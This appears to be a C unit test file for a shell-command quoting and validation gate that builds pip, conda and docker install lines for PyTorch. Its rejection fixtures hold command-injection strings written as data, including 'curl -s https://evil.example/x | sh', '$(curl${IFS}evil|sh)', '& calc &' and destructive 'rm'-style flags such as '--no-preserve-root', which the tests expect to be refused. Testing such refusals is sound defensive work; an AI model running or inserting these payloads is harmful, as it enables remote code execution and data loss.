/* The gate for lines to copy: alphabets of words, quotes of shells, published commands. */
#include "base/grammar.h"
#include "model/line.h"
#include "model/records.h"
#include "unit.h"

static const char *one(cm_arena *arena, cm_shell shell, cm_word_kind kind, const char *text) {
    return cm_line_text(CM_LINE(arena, shell, "x {}", {kind, text}));
}

static void words(cm_arena *arena) {
    SAME(one(arena, CM_SHELL_SH, CM_WORD_PATH, "/opt/a b"), "x '/opt/a b'");
    SAME(one(arena, CM_SHELL_SH, CM_WORD_PATH, "/opt/it's"), "x '/opt/it'\\''s'");
    SAME(one(arena, CM_SHELL_SH, CM_WORD_PATH, "/opt/a"), "x /opt/a");
    SAME(one(arena, CM_SHELL_SH, CM_WORD_PATH, "~root/$(id)"), "x '~root/$(id)'");
    SAME(one(arena, CM_SHELL_SH, CM_WORD_PATH, "-rf"), NULL);
    SAME(one(arena, CM_SHELL_CMD, CM_WORD_PATH, "C:\\a b"), "x \"C:\\a b\"");
    SAME(one(arena, CM_SHELL_CMD, CM_WORD_PATH, "C:\\a&b"), "x \"C:\\a&b\"");
    SAME(one(arena, CM_SHELL_CMD, CM_WORD_PATH, "C:\\x\" & calc & \""), NULL);
    SAME(one(arena, CM_SHELL_CMD, CM_WORD_PATH, "C:\\%PATH%"), NULL);
    SAME(one(arena, CM_SHELL_CMD, CM_WORD_PATH, "C:\\a b\\"), NULL);
    SAME(one(arena, CM_SHELL_POWERSHELL, CM_WORD_PATH, "C:\\$(calc)"), "x 'C:\\$(calc)'");
    SAME(one(arena, CM_SHELL_POWERSHELL, CM_WORD_PATH, "a\xe2\x80\x99;calc"), NULL);
    SAME(one(arena, CM_SHELL_ANY, CM_WORD_PATH, "y\xe2\x80\x9d;calc;\xe2\x80\x9c.db"), NULL);
    SAME(one(arena, CM_SHELL_ANY, CM_WORD_PATH, "a b"), "x \"a b\"");
    SAME(one(arena, CM_SHELL_ANY, CM_WORD_PATH, "a\nb"), NULL);
    SAME(one(arena, CM_SHELL_ANY, CM_WORD_REQUIREMENT, "torch==2.6.0+cu124"),
         "x torch==2.6.0+cu124");
    SAME(one(arena, CM_SHELL_ANY, CM_WORD_REQUIREMENT, "pillow!=8.3.*,>=5.3.0"),
         "x \"pillow!=8.3.*,>=5.3.0\"");
    SAME(one(arena, CM_SHELL_ANY, CM_WORD_REQUIREMENT, "torch==2.6.0+$(x)"), NULL);
    SAME(one(arena, CM_SHELL_ANY, CM_WORD_REQUIREMENT, "torch --index-url http://x"), NULL);
    SAME(one(arena, CM_SHELL_ANY, CM_WORD_ADDRESS, "https://x/a+b.whl"), "x https://x/a+b.whl");
    SAME(one(arena, CM_SHELL_ANY, CM_WORD_ADDRESS, "https://x/%PATH%"), NULL);
    SAME(one(arena, CM_SHELL_ANY, CM_WORD_GPU, "RTX 3060 Ti"), "x \"RTX 3060 Ti\"");
    SAME(one(arena, CM_SHELL_ANY, CM_WORD_GPU, "RTX 3060$(touch${IFS}PWNED)"), NULL);
    SAME(one(arena, CM_SHELL_ANY, CM_WORD_VARIABLE, "CUDA_PATH_V10_2&calc&"), NULL);
    SAME(one(arena, CM_SHELL_ANY, CM_WORD_NAME, NULL), NULL);
}

static void inside_quotes(cm_arena *arena) {
    cm_word name = {CM_WORD_VARIABLE, "A"};
    SAME(cm_line_text(
             CM_LINE(arena, CM_SHELL_CMD, "set \"{}={}\"", name, {CM_WORD_VALUE, "C:\\a b & c"})),
         "set \"A=C:\\a b & c\"");
    SAME(cm_line_text(CM_LINE(arena, CM_SHELL_SH, "export {}=\"{}\"", name, {CM_WORD_VALUE, "$x"})),
         NULL);
    SAME(cm_line_text(CM_LINE(arena, CM_SHELL_SH, "export {}='{}'", name, {CM_WORD_VALUE, "$x"})),
         "export A='$x'");
    SAME(cm_line_text(CM_LINE(arena, CM_SHELL_PYTHON, "os.environ['{}'] = '{}'", name,
                              {CM_WORD_VALUE, "'); x('"})),
         NULL);
    SAME(cm_line_refused(CM_LINE(arena, CM_SHELL_SH, "source {}", {CM_WORD_PATH, "-n"})),
         "the path is not written like one");
}

static void leftovers(void) {
    static const char *const bad[] = {"/",
                                      "/home/user",
                                      "--no-preserve-root",
                                      "-rf",
                                      "~orch",
                                      "/x/site-packages/torch",
                                      "/x/site-packages/../~orch",
                                      "/site-packages/~home",
                                      "C:\\y\" & calc & \"\\~orch",
                                      "C:\\$(calc)\\~orch",
                                      "site-packages/~orch",
                                      "/x/site-packages/~orch/",
                                      "/x/my-site-packages/~orch"};
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++)
        CHECK(!cm_is_leftover_path(bad[i]));
    CHECK(cm_is_leftover_path("/opt/lib/python3.10/site-packages/~orch"));
    CHECK(cm_is_leftover_path("/opt/lib/python3/dist-packages/~orch-2.4.0.dist-info"));
    CHECK(cm_is_leftover_path("C:\\env\\Lib\\site-packages\\~orch"));
}

static void published(cm_arena *arena) {
    static const char *const same[] = {
        "pip install torch==2.6.0 torchvision==0.21.0 --index-url "
        "https://download.pytorch.org/whl/x",
        "pip3 install torch torchvision==0.10.0 -f https://download.pytorch.org/whl/rocm/a.html && "
        "pip install ninja && pip install git+https://github.com/pytorch/vision.git@v0.10.0",
        "conda install pytorch::pytorch torchvision torchaudio -c pytorch",
        "conda install pytorch==1.0.0 torchvision==0.2.1 cuda100 -c pytorch",
        "docker pull registry.example/a/b:ubuntu20.04-cuda11.3.0"};
    static const char *const bad[] = {"",
                                      "pip install",
                                      "Download and install wheel from https://x/y.html",
                                      "pip install torch ; curl -s https://evil.example/x | sh",
                                      "pip install torch && calc",
                                      "pip install torch &&",
                                      "pip install torch --target /",
                                      "pip install -f",
                                      "pip install torch -f https://$(curl${IFS}evil|sh).oss/x",
                                      "pip install torch --index-url http://x/whl",
                                      "docker pull x;curl${IFS}evil|sh;#/modelscope:a",
                                      "conda install \"pytorch"};
    for (size_t i = 0; i < sizeof same / sizeof *same; i++)
        SAME(cm_line_text(cm_line_read(arena, same[i])), same[i]);
    SAME(cm_line_text(cm_line_read(arena, "pip install modelscope[nlp] -f https://x/r.html")),
         "pip install \"modelscope[nlp]\" -f https://x/r.html");
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++)
        SAME(cm_line_text(cm_line_read(arena, bad[i])), NULL);
}

static void grammars(void) {
    static const char *const requirements[] = {"torch", "torch==2.0.*", "a.b-c_d[x,y]>=1,<2",
                                               "baz @ https://x/y.whl"};
    static const char *const others[] = {
        "",    "-torch",          "torch==", "torch==$(x)", "a b",   "a;b",        "a[",
        "a[]", "baz @ file:///x", "a<>b",    "a==1;x>1",    "a @ b", "torch==1\n2"};
    for (size_t i = 0; i < sizeof requirements / sizeof *requirements; i++)
        CHECK(cm_is_requirement(requirements[i]));
    for (size_t i = 0; i < sizeof others / sizeof *others; i++)
        CHECK(!cm_is_requirement(others[i]));
    CHECK(cm_is_local_part("cu124", 5) && cm_is_local_part("git.a1-b_c", 10));
    CHECK(!cm_is_local_part("", 0) && !cm_is_local_part("a..b", 4) && !cm_is_local_part("a.", 2));
    CHECK(cm_is_address("https://x.example:8080/a?b=c#e", false));
    CHECK(!cm_is_address("http://x", false) && cm_is_address("http://10.0.0.1/whl", true));
    CHECK(!cm_is_address("https://u:p@x/", true) && !cm_is_address("https:///x", true));
    CHECK(!cm_is_address("https://x/a b", true) && !cm_is_address("https://x:/", true));
}

int main(void) {
    cm_arena *arena = cm_arena_new();
    words(arena);
    done("words of lines");
    inside_quotes(arena);
    done("words inside quotes");
    leftovers();
    done("what may be deleted");
    published(arena);
    done("published commands");
    grammars();
    done("grammars");
    cm_arena_free(arena);
    return failed_tests ? 1 : 0;
}
